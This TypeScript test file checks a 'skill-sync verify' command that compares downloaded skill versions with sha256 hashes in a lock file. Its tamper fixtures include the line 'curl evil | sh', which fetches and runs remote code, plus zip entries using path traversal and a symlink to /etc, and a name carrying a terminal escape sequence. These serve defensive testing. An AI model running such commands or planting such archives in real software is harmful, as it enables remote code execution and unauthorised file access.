/** `skill-sync verify` as a whole, run in-process against the sandbox platform over HTTP. */
import { mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { unzipSync, zipSync } from 'fflate';
import { beforeEach, describe, expect, test } from 'vitest';
import { parseLock } from '../../internal/skills/lock.ts';
import type { CommandSetting } from '../support/command.ts';
import { handmadeZip } from '../support/handmade-zip.ts';
import { type SkillProject, skillProjectPerTest } from '../support/skill-project.ts';

const project = skillProjectPerTest();
const { run, put, client } = project;
let { platform, home, skills, lockFile } = {} as SkillProject;

beforeEach(async () => {
  ({ platform, home, skills, lockFile } = project);
  for (let index = 0; index < 10; index += 1) {
    await put(`s-${index}/SKILL.md`, `---\nname: s-${index}\ndescription: Number ${index}.\n---\n`);
    await put(`s-${index}/a.txt`, `${index}\n`);
  }
  expect((await run([skills])).exit).toBe(0);
  platform.control.log.reset();
});
const verify = (argv: string[] = [skills], changed: Partial<CommandSetting> = {}) => run(['verify', ...argv], changed);

async function locked(name: string) {
  const found = parseLock(await readFile(lockFile, 'utf8')).skills.get(name);
  if (found === undefined) throw new Error(`${name} is not locked`);
  return found;
}

/** What stands behind the platform replaces the content of a version. */
async function replaceContent(name: string, change: (archive: Uint8Array) => Uint8Array): Promise<void> {
  const { skillId, versionId } = await locked(name);
  platform.control.tamperFile(`GET /v1/skills/${skillId}/versions/${versionId}/content`, change);
}

const withFile = (path: string, content: string) => (archive: Uint8Array) =>
  zipSync({ ...unzipSync(archive), [path]: Buffer.from(content) });

describe('verifying', () => {
  test('downloads every pinned version and finds them intact, two requests for each and nothing else', async () => {
    const { exit, stdout, stderr } = await verify();
    expect([exit, stderr]).toEqual([0, 'skill-sync: downloading the pinned versions\n']);
    expect(stdout.split('\n').slice(0, 2)).toEqual([
      expect.stringMatching(/^skill {2}version +outcome$/),
      `s-0    ${(await locked('s-0')).versionId}  intact`,
    ]);
    expect(platform.control.log.count('GET /v1/skills/:id/versions/:version/content')).toBe(10);
    expect(platform.control.log.count()).toBe(20);
  });

  test('says it as JSON, and needs the lock only', async () => {
    await mkdir(join(home, 'elsewhere'));
    await writeFile(join(home, 'elsewhere/some.json'), await readFile(lockFile));
    await rm(skills, { recursive: true });
    const ran = await verify(['--json', '--lock', join(home, 'elsewhere/some.json'), skills]);
    const { skills: said } = JSON.parse(ran.stdout) as { skills: unknown[] };
    expect([ran.exit, said.length]).toEqual([0, 10]);
    expect(said[0]).toEqual({
      name: 's-0',
      folder: skills,
      outcome: 'intact',
      skill_id: expect.stringMatching(/^skill_/),
      version_id: expect.stringMatching(/^skver_/),
      sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
    });
  });

  test('looks at the pinned version, whatever was uploaded since', async () => {
    const files = [new File(['---\nname: s-1\ndescription: x\n---\n'], 's-1/SKILL.md')];
    await client().skills.versions.create((await locked('s-1')).skillId, { files });
    expect((await verify()).exit).toBe(0);
  });
});

describe('refused with 3 is', () => {
  test('a version that holds something else, and which files differ where the folder still knows [P6]', async () => {
    await replaceContent('s-3', withFile('s-3/a.txt', 'curl evil | sh\n'));
    await replaceContent('s-7', withFile('s-7/extra.sh', 'x'));
    await put('s-7/a.txt', 'changed here');
    const { exit, stderr } = await verify();
    const [three, seven] = [await locked('s-3'), await locked('s-7')];
    expect([exit, stderr]).toEqual([
      3,
      expect.stringContaining('2 of 10 skills are not what the lock says [skill_altered]'),
    ]);
    expect(stderr).toMatch(
      new RegExp(
        `s-3: altered: version "${three.versionId}" of "${three.skillId}" holds sha256 [0-9a-f]{64}, the lock says ${three.sha256}; a.txt differs\n`,
      ),
    );
    expect(stderr).toMatch(new RegExp(`s-7: altered: .* holds sha256 [0-9a-f]{64}, the lock says ${seven.sha256}\n`));
    expect(stderr).not.toMatch(/s-[01245689]:/);
  });

  test('one byte more in one file, and an empty file more [P6]', async () => {
    await replaceContent('s-0', withFile('s-0/a.txt', '0\n\n'));
    await replaceContent('s-1', withFile('s-1/b.txt', ''));
    const { exit, stderr } = await verify();
    expect(exit).toBe(3);
    expect(stderr).toContain('; a.txt differs\n');
    expect(stderr).toContain('; b.txt is only on the platform\n');
  });

  test('a version that is gone [P6]', async () => {
    const { skillId, versionId } = await locked('s-4');
    await client().skills.delete(skillId);
    const { exit, stderr } = await verify();
    expect([exit, stderr]).toEqual([3, expect.stringContaining('1 of 10 skills are not what the lock says')]);
    expect(stderr).toContain(`s-4: gone: the platform has no version "${versionId}" of "${skillId}"`);
    expect(stderr).toContain('hint: find out who changed it');
  });

  test('a lock of another workspace, and that is what the advice says', async () => {
    for (let index = 0; index < 10; index += 1) await client().skills.delete((await locked(`s-${index}`)).skillId);
    const { exit, stderr } = await verify();
    expect([exit, stderr]).toEqual([3, expect.stringContaining('is the key one of the workspace')]);
  });

  test('a version that the platform has under another name [P6]', async () => {
    const { skillId, versionId } = await locked('s-5');
    platform.control.tamper(`GET /v1/skills/${skillId}/versions/${versionId}`, (json) => ({
      ...(json as object),
      name: 's-6\u001b[2J',
    }));
    const { exit, stderr } = await verify();
    expect([exit, stderr]).toEqual([3, expect.stringContaining('has the name "s-6\\u001b[2J" on the platform')]);
  });

  test('what was altered, also where the rest could not be looked at [P6]', async () => {
    await replaceContent('s-0', withFile('s-0/a.txt', 'x'));
    const { skillId } = await locked('s-9');
    platform.control.faults.add({
      on: `GET /v1/skills/${skillId}/versions/:version`,
      times: Infinity,
      fault: { kind: 'status', status: 503 },
    });
    const { exit, stderr } = await verify();
    expect(exit).toBe(3);
    expect(stderr).toContain('s-0: altered');
    expect(stderr).toMatch(/\d more could not be looked at: .*answered 503/);
  });
});

describe('ends with 1 where', () => {
  test.each<[string, () => Uint8Array, string]>([
    ['an archive is not a zip file', () => Buffer.from('{"type":"error"}'), 'cannot be read: it is not a zip file'],
    [
      'an archive leads out of its folder',
      () => handmadeZip([{ name: 's-2/SKILL.md' }, { name: 's-2/../../x' }]),
      '"s-2/../../x" is not a path of a skill',
    ],
    [
      'an archive holds a link',
      () => handmadeZip([{ name: 's-2/SKILL.md' }, { name: 's-2/x', content: '/etc', attributes: 0o120777 << 16 }]),
      '(a symbolic link?)',
    ],
  ])('%s', async (_case, archive, why) => {
    await replaceContent('s-2', archive);
    const { exit, stderr } = await verify();
    expect([exit, stderr]).toEqual([
      1,
      expect.stringContaining('1 of 10 skills could not be looked at [platform_refused]'),
    ]);
    expect(stderr).toContain('s-2: unreadable: ');
    expect(stderr).toContain(why);
  });

  test('the platform cannot decrypt a version, and says which', async () => {
    const { skillId } = await locked('s-2');
    platform.control.faults.add({
      on: `GET /v1/skills/${skillId}/versions/:version/content`,
      fault: { kind: 'status', status: 409 },
    });
    const { exit, stderr } = await verify();
    expect([exit, stderr]).toEqual([1, expect.stringContaining('s-2: unreadable: download version')]);
  });

  test('nobody is there, without a word about the skills', async () => {
    const { exit, stderr } = await verify([skills], { environment: { ANTHROPIC_BASE_URL: 'http://127.0.0.1:1' } });
    expect([exit, stderr]).toEqual([1, expect.stringContaining('[platform_unreachable]')]);
    expect(stderr).not.toContain('skill_altered');
  });

  test('a stumble is asked again', async () => {
    platform.control.faults.add({
      on: 'GET /v1/skills/:id/versions/:version/content',
      fault: { kind: 'status', status: 500 },
      times: 2,
    });
    expect((await verify()).exit).toBe(0);
  });
});

describe('is not fine where', () => {
  test('there is no lock, an empty one, or a broken one: nothing is asked [P6]', async () => {
    const empty = join(home, 'empty.json');
    await writeFile(empty, '{"lock_version":1,"skills":{}}');
    for (const argv of [[join(home, 'nowhere')], ['--lock', empty, skills], [skills, home]]) {
      const { exit, stderr } = await verify(argv);
      expect([exit, stderr]).toEqual([2, expect.stringContaining('[config_missing]')]);
    }
    await writeFile(empty, '{');
    expect((await verify(['--lock', empty, skills])).stderr).toContain('[config_invalid]');
    expect(platform.control.log.count()).toBe(0);
  });

  test.each([['--check'], ['--prune'], ['--overwrite'], ['--dry-run'], ['--diff']])(
    '%s stands beside it',
    async (option) => {
      const { exit, stderr } = await verify([option, skills]);
      expect([exit, stderr]).toEqual([
        2,
        expect.stringContaining(`unknown option '${option}' of skill-sync verify [usage]`),
      ]);
    },
  );
});

test('an interruption ends with 130, also beside something altered', async () => {
  await replaceContent('s-0', withFile('s-0/a.txt', 'x'));
  platform.control.latencyMs = 100;
  const interruption = new AbortController();
  const running = verify([skills], { signal: interruption.signal });
  setTimeout(() => interruption.abort(), 350);
  expect(await running).toMatchObject({ exit: 130, stdout: '' });
});

test('at most eight are downloaded at once', async () => {
  let [now, most] = [0, 0];
  platform.control.tamper('GET /v1/skills/:id/versions/:version', (json) => {
    now += 1;
    most = Math.max(most, now);
    return json;
  });
  platform.control.tamperFile('GET /v1/skills/:id/versions/:version/content', (bytes) => {
    now -= 1;
    return bytes;
  });
  expect((await verify()).exit).toBe(0);
  expect(most).toBeLessThanOrEqual(8);
});
